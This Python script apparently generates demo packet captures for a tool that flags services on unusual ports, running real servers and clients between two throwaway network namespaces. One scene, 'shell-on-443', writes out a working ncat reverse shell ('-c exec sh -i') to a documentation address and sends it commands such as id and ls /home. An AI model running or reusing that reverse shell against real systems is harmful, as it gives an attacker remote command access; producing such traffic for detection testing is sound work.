"""Real programs talking between two network namespaces → demo captures.

usage (as root): python tools/demo/record.py [FOLDER]

Needs nginx, openssl, sshd, ssh-keyscan, dnsmasq, dig, curl, ncat, tcpdump and ip. Everything runs in two namespaces that
this script makes and removes; no packet leaves them. Addresses are those for documentation (RFC 5737) outside and private
ones inside.
"""

import contextlib
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

NEEDED = ("nginx", "openssl", "sshd", "ssh-keyscan", "dnsmasq", "dig", "curl", "ncat", "tcpdump", "ip")
INSIDE, OUTSIDE = "oddport-inside", "oddport-outside"
CLIENTS = ("10.20.3.14", "10.20.3.27", "10.20.4.9", "10.20.5.31", "10.20.6.2", "10.20.8.14")
SERVERS = (
    "203.0.113.80",
    "198.51.100.25",
    "203.0.113.66",
    "198.51.100.53",
    "203.0.113.140",
    "192.0.2.10",
    "192.0.2.53",
)
SETTLE = 0.4
"""Seconds for a server to listen, and for tcpdump to write its last packets."""


def root(*words: str) -> None:
    """A command that must work."""
    subprocess.run(words, check=True, capture_output=True)


def inside(*words: str, data: bytes = b"", timeout: float = 10) -> None:
    """A client's command; what it answers does not matter."""
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(
            ["ip", "netns", "exec", INSIDE, *words], input=data, capture_output=True, timeout=timeout, check=False
        )


@contextlib.contextmanager
def outside(*words: str, data: bytes | None = None) -> Iterator[subprocess.Popen[bytes]]:
    """A server that runs meanwhile."""
    process = subprocess.Popen(
        ["ip", "netns", "exec", OUTSIDE, *words],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    time.sleep(SETTLE)
    if data is not None and process.stdin is not None:
        process.stdin.write(data)
        process.stdin.flush()
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGTERM)
        process.wait(5)


@contextlib.contextmanager
def network() -> Iterator[None]:
    """Two namespaces with a cable between them."""
    for name in (INSIDE, OUTSIDE):
        subprocess.run(["ip", "netns", "del", name], capture_output=True, check=False)
        root("ip", "netns", "add", name)
    try:
        root("ip", "link", "add", "in0", "netns", INSIDE, "address", "02:00:00:00:00:01", "type", "veth",
             "peer", "name", "out0", "netns", OUTSIDE, "address", "02:00:00:00:00:02")  # fmt: skip
        for name, link, own, others in ((INSIDE, "in0", CLIENTS, SERVERS), (OUTSIDE, "out0", SERVERS, CLIENTS)):
            root("ip", "netns", "exec", name, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1")
            for address in own:
                root("ip", "-n", name, "address", "add", f"{address}/32", "dev", link)
            root("ip", "-n", name, "link", "set", "lo", "up")
            root("ip", "-n", name, "link", "set", link, "up")
            for address in others:
                root("ip", "-n", name, "route", "add", address, "dev", link)
        yield
    finally:
        for name in (INSIDE, OUTSIDE):
            subprocess.run(["ip", "netns", "del", name], capture_output=True, check=False)


def certificate(folder: Path, name: str) -> tuple[str, str]:
    """A self-signed certificate for `name`: (certificate, key)."""
    crt, key = folder / f"{name}.crt", folder / f"{name}.key"
    root("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "90",
         "-subj", f"/CN={name}", "-keyout", str(key), "-out", str(crt))  # fmt: skip
    return str(crt), str(key)


def nginx(folder: Path, *servers: str) -> list[str]:
    """The command of an nginx with these server blocks."""
    pages = folder / "pages"
    pages.mkdir(exist_ok=True)
    (pages / "index.html").write_text("<h1>It works.</h1>\n")
    config = folder / "nginx.conf"
    blocks = "\n".join(f"server {{ {server} root {pages}; }}" for server in servers)
    config.write_text(
        f"daemon off; master_process off; pid {folder}/nginx.pid; error_log /dev/null;\n"
        f"events {{ worker_connections 64; }}\nhttp {{ access_log off; server_tokens off;\n{blocks}\n}}\n"
    )
    return ["nginx", "-p", str(folder), "-c", str(config)]


def sshd(folder: Path, *ports: int) -> list[str]:
    """The command of an sshd on these ports."""
    key = folder / "host_key"
    if not key.exists():
        root("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "demo", "-f", str(key))
    os.makedirs("/run/sshd", exist_ok=True)
    listen = [word for port in ports for word in ("-p", str(port))]
    return [shutil.which("sshd") or "sshd", "-D", "-f", "/dev/null", "-h", str(key), *listen]


# the scenes: each runs in the network, while tcpdump writes


def https_on_8088(folder: Path) -> None:
    crt, key = certificate(folder, "cdn-sync.example")
    with outside(*nginx(folder, f"listen 203.0.113.80:8088 ssl; ssl_certificate {crt}; ssl_certificate_key {key};")):
        for _ in range(3):
            inside("curl", "-sk", "--interface", "10.20.3.14", "--resolve", "cdn-sync.example:8088:203.0.113.80",
                   "https://cdn-sync.example:8088/")  # fmt: skip


def tls_on_587(folder: Path) -> None:
    crt, key = certificate(folder, "relay.example")
    with outside("openssl", "s_server", "-accept", "198.51.100.25:587", "-cert", crt, "-key", key, "-quiet"):
        inside("openssl", "s_client", "-connect", "198.51.100.25:587", "-bind", "10.20.3.27", "-servername", "relay.example",
               data=b"status\n", timeout=2)  # fmt: skip


def shell_on_443(folder: Path) -> None:
    with outside("ncat", "-l", "203.0.113.66", "443") as server:
        victim = subprocess.Popen(
            ["ip", "netns", "exec", INSIDE, "env", "-i", "PS1=$ ", "PATH=/usr/bin:/bin",
             "ncat", "-s", "10.20.4.9", "203.0.113.66", "443", "-c", "exec sh -i 2>&1"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/",
        )  # fmt: skip
        time.sleep(SETTLE)
        for order in (b"id\n", b"pwd\n", b"ls /home\n", b"exit\n"):
            if server.stdin is not None:
                server.stdin.write(order)
                server.stdin.flush()
            time.sleep(0.2)
        victim.wait(5)


def ssh_on_53(folder: Path) -> None:
    with outside(*sshd(folder, 53)):
        inside("ssh-keyscan", "-p", "53", "-t", "ed25519", "-T", "3", "198.51.100.53")


def http_on_443(folder: Path) -> None:
    with outside(*nginx(folder, "listen 203.0.113.140:443;")):
        inside("curl", "-s", "--interface", "10.20.6.2", "-A", "updater/2.1", "http://203.0.113.140:443/index.html")


def benign_mix(folder: Path) -> None:
    crt, key = certificate(folder, "www.example")
    ssl = f"ssl_certificate {crt}; ssl_certificate_key {key};"
    blocks = (
        "listen 192.0.2.10:80; listen 192.0.2.10:8080;",
        f"listen 192.0.2.10:443 ssl; listen 192.0.2.10:8443 ssl; {ssl}",
    )
    names = ["--address=/www.example/192.0.2.10"]
    with outside(*nginx(folder, *blocks)), outside(*sshd(folder, 22)), outside(*dnsmasq(*names)):
        for client in CLIENTS[:3]:
            inside("dig", "-b", client, "@192.0.2.53", "www.example", "+tries=1", "+time=2")
            inside("curl", "-s", "--interface", client, "http://192.0.2.10/")
            inside("curl", "-s", "--interface", client, "http://192.0.2.10:8080/")
            for port in (443, 8443):
                inside("curl", "-sk", "--interface", client, "--resolve", f"www.example:{port}:192.0.2.10",
                       f"https://www.example:{port}/")  # fmt: skip
        inside("ssh-keyscan", "-t", "ed25519", "-T", "3", "192.0.2.10")


def dnsmasq(*records: str) -> list[str]:
    """The command of a name server that knows only these records."""
    return ["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", "--user=root",
            "--listen-address=192.0.2.53", "--edns-packet-max=4096", *records]  # fmt: skip


def dns_fragments(folder: Path) -> None:
    text = ",".join(f"{i:02d}" + "v" * 240 for i in range(12))
    with outside(*dnsmasq(f"--txt-record=keys.example,{text}")):
        for client in CLIENTS[:2]:
            inside(
                "dig",
                "-b",
                client,
                "@192.0.2.53",
                "keys.example",
                "TXT",
                "+bufsize=4096",
                "+tries=1",
                "+time=2",
                "+ignore",
            )


SCENES: dict[str, Callable[[Path], None]] = {
    "https-on-8088": https_on_8088,
    "tls-on-587": tls_on_587,
    "shell-on-443": shell_on_443,
    "ssh-on-53": ssh_on_53,
    "http-on-443": http_on_443,
    "benign-mix": benign_mix,
    "dns-fragments": dns_fragments,
}


def record(name: str, target: Path) -> None:
    """Play one scene and keep what the cable carried."""
    with tempfile.TemporaryDirectory() as folder, network():
        dump = subprocess.Popen(
            ["ip", "netns", "exec", OUTSIDE, "tcpdump", "-i", "out0", "-U", "-s", "0", "-w", str(target), "not arp and not icmp6"],
            stderr=subprocess.DEVNULL,
        )  # fmt: skip
        time.sleep(SETTLE)
        SCENES[name](Path(folder))
        time.sleep(SETTLE)
        dump.send_signal(signal.SIGINT)
        dump.wait(5)


def main() -> None:
    """Record every scene."""
    missing = [
        name for name in NEEDED if shutil.which(name, path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin") is None
    ]
    if missing or os.geteuid():
        sys.exit(f"Recording needs root and these programs: {', '.join(missing) or 'all are there'}.")
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else "demo_pcaps")
    for name in SCENES:
        record(name, folder / f"{name}.pcap")
        print(name, (folder / f"{name}.pcap").stat().st_size, flush=True)


if __name__ == "__main__":
    main()
